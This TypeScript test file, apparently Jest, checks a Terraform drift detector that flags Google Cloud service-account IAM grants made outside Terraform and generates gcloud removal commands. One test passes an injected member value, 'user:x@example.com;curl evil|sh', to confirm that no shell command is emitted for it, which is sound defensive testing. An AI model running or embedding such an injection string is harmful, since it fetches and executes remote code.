import { detectDrift, driftMarkdown, readStackPlan } from "../index";
import { driftText } from "../testing/plan-fixture";
import { type AccountGrant, declaredGrants, undeclared } from "./account-grants";

const account = "reader@p-dev.iam.gserviceaccount.com";
const role = "roles/iam.workloadIdentityUser";
const pool = "principal://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/subject/s";

const resource = (type: string, name: string, values: object) => ({
  address: `${type}.${name}`,
  mode: "managed",
  type,
  values,
});

const state = (...more: readonly object[]) =>
  driftText([], {
    prior_state: {
      values: {
        root_module: {
          resources: [
            resource("google_service_account", "reader", { email: account }),
            resource("google_service_account_iam_member", "pool", {
              service_account_id: `projects/p-dev/serviceAccounts/${account}`,
              role,
              member: pool,
              condition: [],
            }),
            resource("google_service_account_iam_binding", "people", {
              service_account_id: `projects/p-dev/serviceAccounts/${account}`,
              role: "roles/iam.serviceAccountUser",
              members: ["user:Ann@example.com"],
              condition: [{ title: "until", expression: "request.time < timestamp('2030-01-01T00:00:00Z')" }],
            }),
            ...more,
          ],
        },
      },
    } as never,
  });

const grant = (over: Partial<AccountGrant> = {}): AccountGrant => ({
  account,
  role,
  member: pool,
  condition: "",
  ...over,
});

describe("members of service accounts that Terraform does not know of", () => {
  it("are what the policy holds beside the state, however Google writes it", () => {
    const declared = declaredGrants(state(), "dev");
    expect(declared.accounts).toEqual([account]);
    const people = grant({
      role: "roles/iam.serviceAccountUser",
      member: "user:ann@example.com",
      condition: "request.time < timestamp('2030-01-01T00:00:00Z') ",
    });
    const foreign = [
      grant({ member: "user:eve@example.com" }),
      grant({ role: "roles/iam.serviceAccountTokenCreator" }),
      grant({ condition: "true" }),
      { ...people, condition: "" },
      grant({ member: pool.toUpperCase() }),
    ];
    expect(undeclared([grant(), people, ...foreign], declared)).toEqual(foreign);
  });

  it("are not looked for where a refresh sees the whole policy", () => {
    const governed = resource("google_service_account_iam_policy", "all", {
      service_account_id: `projects/p-dev/serviceAccounts/${account}`,
      policy_data: "{}",
    });
    expect(declaredGrants(state(governed), "dev").accounts).toEqual([]);
  });

  const report = (foreignGrants: readonly AccountGrant[] | undefined, allow: Parameters<typeof detectDrift>[1] = []) =>
    detectDrift(
      [
        readStackPlan(state(), {
          stack: "dev",
          constructPaths: new Map([["google_service_account.reader", "dev/reader"]]),
          foreignGrants,
        }),
      ],
      allow,
      new Date("2026-11-22"),
    );

  it("are grave drift of the account, with the command that takes them away", () => {
    const found = report([grant({ member: "user:eve@example.com" })]);
    expect(found.exitCode).toBe(3);
    expect(found.changedOutside).toEqual([
      expect.objectContaining({
        constructPath: "dev/reader",
        type: "google_service_account",
        kind: "iam-grant",
        rank: "high",
        attribute: `iam_policy[${role} user:eve@example.com]`,
      }),
    ]);
    expect(driftMarkdown(found)).toContain(
      `gcloud iam service-accounts remove-iam-policy-binding ${account} --role=${role} --member=user:eve@example.com --condition=None`,
    );
  });

  it("make no command of a member that would mean something to a shell", () => {
    const markdown = driftMarkdown(report([grant({ member: "user:x@example.com;curl evil|sh" })]));
    expect(markdown).toContain("gets");
    expect(markdown).not.toContain("gcloud");
  });

  it("are tolerated one by one, by a list", () => {
    const foreign = [grant({ member: "user:eve@example.com" }), grant({ member: "user:bob@example.com" })];
    const found = report(foreign, [
      {
        constructPath: "dev/reader",
        attribute: `iam_policy[${role} user:bob@example.com]`,
        reason: "on call",
        until: "2027-01-31",
      },
    ]);
    expect(found.allowed.map(({ attribute }) => attribute)).toEqual([`iam_policy[${role} user:bob@example.com]`]);
    expect(found.changedOutside).toHaveLength(1);
  });

  it("are said to be not covered where nobody has looked, and only there", () => {
    const types = (grants: readonly AccountGrant[] | undefined) => report(grants).notCovered.map(({ type }) => type);
    expect(types(undefined)).toContain("google_service_account_iam_member");
    expect(types([])).not.toContain("google_service_account_iam_member");
    expect(types([])).not.toContain("google_service_account_iam_binding");
  });

  it("are refused on an account that the plan does not hold", () => {
    expect(() => report([grant({ account: "other@p-dev.iam.gserviceaccount.com" })])).toThrow(
      /a grant on an account that the plan does not hold/,
    );
  });
});
